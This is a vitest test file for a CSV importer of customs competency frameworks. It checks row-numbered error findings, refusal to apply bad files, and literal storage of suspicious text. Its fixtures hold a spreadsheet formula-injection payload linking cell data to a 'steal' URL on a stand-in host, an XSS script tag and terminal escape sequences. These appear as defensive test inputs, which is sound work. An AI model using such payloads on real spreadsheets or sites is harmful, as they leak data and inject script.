// Files that can be read but are wrong in their headers or cells: the preview names each
// problem by row and column, applying is refused (400 / exit 1), and nothing is written.
// Text that only looks dangerous (formulas, markup) is imported as the literal text.
import Database from "better-sqlite3";
import { and, eq } from "drizzle-orm";
import { afterAll, describe, expect, it } from "vitest";
import { getDb } from "@db/client";
import { competencies, nodes, scales } from "@db/schema";
import { AUTHOR, CBIC_ROW, cliImporter, FLAT_HEADER, flatCsv, postImport, unchangedBy } from "../factories/import";

const LONG = "x".repeat(100_000);
const csv = (name: string, text: string) => ({ name, bytes: text });

// `cli`: also run through the real CLI (each run starts a process, so a representative few).
type Invalid = { what: string; text: string; finding: { row: number; column?: string; code: string; message: RegExp }; cli?: boolean };
const INVALID: Invalid[] = [
  { what: "a header without data rows", text: `${FLAT_HEADER}\r\n`, finding: { row: 1, code: "no_rows", message: /header row but no data rows/ }, cli: true },
  {
    what: "an unbalanced quote",
    text: flatCsv(CBIC_ROW, 'Examiner,"Cargo examination,Examine goods,Customs valuation,Domain,3', CBIC_ROW),
    finding: { row: 3, code: "csv_quotes", message: /quoted cell on row 3 is never closed/ }, cli: true,
  },
  {
    what: "a header given twice",
    text: `Position,Role,Activity,Competency,Competency,Required level\r\nExaminer,Cargo examination,Examine goods,Customs valuation,Tariff classification,3\r\n`,
    finding: { row: 1, column: "Competency", code: "header_duplicate", message: /"Competency" is there twice \(columns D and E\)/ },
  },
  {
    what: "two headers that mean the same column",
    text: `Position,Designation,Role,Activity,Competency,Required level\r\nExaminer,Examiner,Cargo examination,Examine goods,Customs valuation,3\r\n`,
    finding: { row: 1, column: "Position", code: "header_duplicate", message: /Columns A \("Position"\) and B \("Designation"\) both mean "Position"/ },
  },
  {
    what: "a required header missing",
    text: `Position,Role,Activity,Required level\r\nExaminer,Cargo examination,Examine goods,3\r\n`,
    finding: { row: 1, column: "Competency", code: "header_missing", message: /The column "Competency" is missing/ },
  },
  {
    what: "a 100,000-character cell",
    text: flatCsv(`Examiner,${LONG},Examine goods,Customs valuation,Domain,3`),
    finding: { row: 2, column: "Role", code: "text_too_long", message: /Role has 1,00,000 characters; at most 300 are allowed/ }, cli: true,
  },
  {
    what: "a level above the scale",
    text: flatCsv(CBIC_ROW, "Examiner,Cargo examination,Examine goods,Customs valuation,Domain,7"),
    finding: { row: 3, column: "Required level", code: "level_invalid", message: /Required level 7 is not a level: levels are numbered 1 to 5/ }, cli: true,
  },
  {
    what: "a level of 0",
    text: flatCsv("Examiner,Cargo examination,Examine goods,Customs valuation,Domain,0"),
    finding: { row: 2, column: "Required level", code: "level_invalid", message: /Required level 0 is not a level/ },
  },
  {
    what: "a level that is no number or level name",
    text: flatCsv("Examiner,Cargo examination,Examine goods,Customs valuation,Domain,High"),
    finding: { row: 2, column: "Required level", code: "level_invalid", message: /"High" is neither a number 1–5 nor a level name/ },
  },
  {
    what: "a control character in a name",
    text: flatCsv("Exam\u0007iner\u001b[31m,Cargo examination,Examine goods,Customs valuation,Domain,3"),
    finding: { row: 2, column: "Position", code: "control_character", message: /Position holds an invisible control character \(U\+0007\) at character 5/ }, cli: true,
  },
  {
    what: "Hindi lost to question marks by a Windows encoding",
    text: `${FLAT_HEADER},Position Hindi name\r\n${CBIC_ROW},???????\r\n`,
    finding: { row: 2, column: "Position Hindi name", code: "characters_lost", message: /replaced by question marks.*CSV UTF-8/ },
  },
];

describe("the import page previews a wrong file with row-numbered findings and refuses to apply it", () => {
  it.each(INVALID)("$what", async ({ text, finding }) => {
    const file = csv("frac.csv", text);
    const preview = await unchangedBy(() => postImport(AUTHOR, "CBIC", file));
    expect(preview.status).toBe(200);
    const body = preview.body as { preview: { findings: unknown[]; plan: { ok: boolean } } };
    expect(body.preview.plan.ok).toBe(false);
    expect(body.preview.findings).toContainEqual(expect.objectContaining({ ...finding, severity: "error", message: expect.stringMatching(finding.message) }));
    const applied = await unchangedBy(() => postImport(AUTHOR, "CBIC", file, { intent: "apply" }));
    expect(applied).toEqual({ status: 400, body: { ok: false, message: expect.stringContaining("The file has errors; nothing was imported") } });
  });

  it("shows a 100,000-character cell shortened in the findings", async () => {
    const { body } = await postImport(AUTHOR, "CBIC", csv("frac.csv", flatCsv(`Examiner,${LONG},Examine goods,Customs valuation,Domain,3`)));
    const finding = (body as { preview: { findings: { code: string; value: string }[] } }).preview.findings.find((f) => f.code === "text_too_long")!;
    expect(finding.value.length).toBeLessThanOrEqual(120);
    expect(finding.value.endsWith("…")).toBe(true);
  });

  it("refuses a level outside the competency's own, shorter scale, by number and by name", async () => {
    const customs = getDb().select().from(competencies).where(eq(competencies.name, "Customs valuation")).get()!;
    const threeLevels = getDb().select().from(scales).all().find((s) => Array.isArray(s.levels) && s.levels.length === 3)!;
    getDb().update(competencies).set({ scaleId: threeLevels.id }).where(eq(competencies.id, customs.id)).run();
    try {
      const file = csv("frac.csv", flatCsv("Examiner,Cargo examination,Examine goods,Customs valuation,Domain,4", "Examiner,Cargo examination,Weigh goods,Customs valuation,Domain,Ustad"));
      const { body } = await unchangedBy(() => postImport(AUTHOR, "CBIC", file));
      const findings = (body as { preview: { findings: unknown[] } }).preview.findings;
      expect(findings).toContainEqual(expect.objectContaining({ row: 2, column: "Required level", code: "level_out_of_scale", message: expect.stringMatching(/Required level 4 is outside the scale of "Customs valuation": .*3/) }));
      expect(findings).toContainEqual(expect.objectContaining({ row: 3, code: "level_out_of_scale", value: "Ustad" }));
      expect((await unchangedBy(() => postImport(AUTHOR, "CBIC", file, { intent: "apply" }))).status).toBe(400);
    } finally {
      getDb().update(competencies).set({ scaleId: customs.scaleId }).where(eq(competencies.id, customs.id)).run();
    }
  });
});

// Spreadsheet formula triggers and markup, as a clerk might type them: bullets, phone numbers, handles.
const LITERAL = {
  position: "=SUM(A1:A9)",
  role: "+91 11 2309 2000 helpline",
  activity: "-Draw samples for testing",
  competency: "@Risk scoring",
  description: '=HYPERLINK("http://example.test/steal?"&A1,"Click")',
  script: "<script>alert('xss')</script> Appraiser",
};
const literalCsv = [
  `${FLAT_HEADER},Activity description`,
  `${LITERAL.position},${LITERAL.role},${LITERAL.activity},${LITERAL.competency},Domain,2,"${LITERAL.description.replaceAll('"', '""')}"`,
  `${LITERAL.script},Cargo examination,Examine goods,Customs valuation,Domain,3,`,
].join("\r\n");

describe("text that looks like a formula or markup", () => {
  it("is stored as the literal text, never evaluated or escaped", async () => {
    const res = await postImport(AUTHOR, "CBIC", csv("literal.csv", literalCsv), { intent: "apply" });
    expect(res).toMatchObject({ status: 200, body: { ok: true } });
    const named = (name: string) => getDb().select().from(nodes).where(eq(nodes.name, name)).get();
    expect(named(LITERAL.position)?.kind).toBe("position");
    expect(named(LITERAL.role)?.kind).toBe("role");
    expect(named(LITERAL.activity)).toMatchObject({ kind: "activity", description: LITERAL.description });
    expect(named(LITERAL.script)?.kind).toBe("position");
    expect(getDb().select().from(competencies).where(and(eq(competencies.name, LITERAL.competency), eq(competencies.type, "Domain"))).get()).toBeTruthy();
  });
});

describe("frac import", () => {
  const cli = cliImporter();
  afterAll(cli.db.remove);

  it.each(INVALID.filter((c) => c.cli))("exits 1 on $what, naming row and column, and leaves the file unchanged", ({ text, finding }) => {
    const out = cli.importRefused(cli.write("frac.csv", text), 1);
    const where = `row ${finding.row}${finding.column ? `, column ${finding.column}` : ""}`;
    expect(out.stdout).toMatch(new RegExp(`^error\\s+${where}\\b.*${finding.message.source}`, "m"));
    expect(out.stdout).toContain("Nothing was imported");
    // A cell's control characters reach the terminal only as visible escapes.
    // eslint-disable-next-line no-control-regex -- finding control characters is the point
    expect(out.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f]/u);
  });

  it("stores formula-like text and markup literally", () => {
    const out = cli.run(["import", cli.write("literal.csv", literalCsv), "--mdo", "CBIC"]);
    expect(out).toMatchObject({ code: 0, stderr: "" });
    const db = new Database(cli.db.file, { readonly: true });
    try {
      const names = db.prepare("select name from nodes").pluck().all();
      expect(names).toEqual(expect.arrayContaining([LITERAL.position, LITERAL.role, LITERAL.activity, LITERAL.script]));
      expect(db.prepare("select description from nodes where name = ?").pluck().get(LITERAL.activity)).toBe(LITERAL.description);
    } finally {
      db.close();
    }
  });
});
